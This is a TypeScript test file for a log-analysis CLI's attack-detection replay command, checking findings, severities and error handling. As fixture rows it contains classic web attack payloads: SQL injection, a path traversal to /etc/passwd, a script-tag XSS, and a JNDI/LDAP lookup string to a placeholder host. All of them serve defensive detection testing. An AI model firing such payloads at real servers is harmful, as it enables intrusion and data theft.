import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { main } from "../cli.ts";

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "logdoctor-detect-"));
});
afterAll(() => rm(folder, { recursive: true }));

async function replay(table: string, text: string, ...flags: string[]) {
  const file = join(folder, "rows.jsonl");
  await writeFile(file, text);
  let out = "";
  let err = "";
  const code = await main(["detect", "replay", "--table", table, "--rows", file, ...flags], {
    out: (part) => {
      out += part;
    },
    err: (part) => {
      err += part;
    },
    now: () => new Date("2026-06-01T12:00:00Z"),
    credential: () => Promise.reject(new Error("No credential is needed")),
  });
  return { code, out, err };
}

const asked = (query: string, more: object = {}) =>
  JSON.stringify({ CIp: "203.0.113.7", CsMethod: "GET", CsUriStem: "/", CsUriQuery: query, ScStatus: 200, ...more });

test("lists every row that matched, given or made ids alike", async () => {
  const attacks = Array.from({ length: 120 }, (_, i) => asked(`id=${i}'+or+1%3D1--`, { _ItemId: `given-${i}` }));
  const text = [...attacks, asked("q=shoes"), asked("file=../../etc/passwd")].join("\n");
  const { code, out } = await replay("AppServiceHTTPLogs", text, "--json");
  const { findings, scanned, patterns } = JSON.parse(out);
  expect({ code, scanned }).toEqual({ code: 0, scanned: 122 });
  expect(patterns).toBeGreaterThan(10);
  const of = (id: string) => findings.find(({ pattern }: { pattern: string }) => pattern === id);
  expect(of("sql-injection")).toMatchObject({ severity: "CRITICAL", source: "203.0.113.7" });
  expect(new Set(of("sql-injection").itemIds)).toEqual(new Set(attacks.map((_, i) => `given-${i}`)));
  expect(of("path-traversal").itemIds).toEqual(["row-122"]);
});

test("no odd text of a request ends the run, and an attack beside it is found", async () => {
  const odd = [
    "%",
    "%zz=%u12",
    "a=\u0000\u0007",
    "한글=カナ&Ünï=ẞİ",
    "a=%F0%9F%98%80%c3",
    "&&&===???",
    "A=V=E",
    "x=|;\\",
    "\u{10ffff}",
  ];
  const text = odd.map((query) => asked(`${query}&x=<script>alert(1)</script>`, { CIp: undefined })).join("\n");
  const { findings } = JSON.parse((await replay("AppServiceHTTPLogs", text, "--json")).out);
  const [found] = findings.filter(({ pattern }: { pattern: string }) => pattern === "cross-site-scripting");
  expect(found).toMatchObject({ source: "unknown", itemCount: odd.length });
});

test("says the same for people", async () => {
  const { out } = await replay("AppServiceHTTPLogs", `${asked("q=%24%7Bjndi:ldap://a.example%7D")}\n\n`);
  expect(out).toMatch(/^PATTERN +SEVERITY +SCORE/);
  expect(out).toMatch(/jndi-lookup +CRITICAL +\d+ +203\.0\.113\.7/);
});

test.each([
  ["Heartbeat", "{}", 2, "No pattern reads the table Heartbeat"],
  ["AppServiceHTTPLogs", "{}\n[1]", 1, "rows.jsonl:2 is no JSON object"],
])("%s %j ends with %i", async (table, text, code, message) => {
  const answer = await replay(table, text);
  expect(answer).toMatchObject({ code, out: "" });
  expect(answer.err).toContain(message);
});
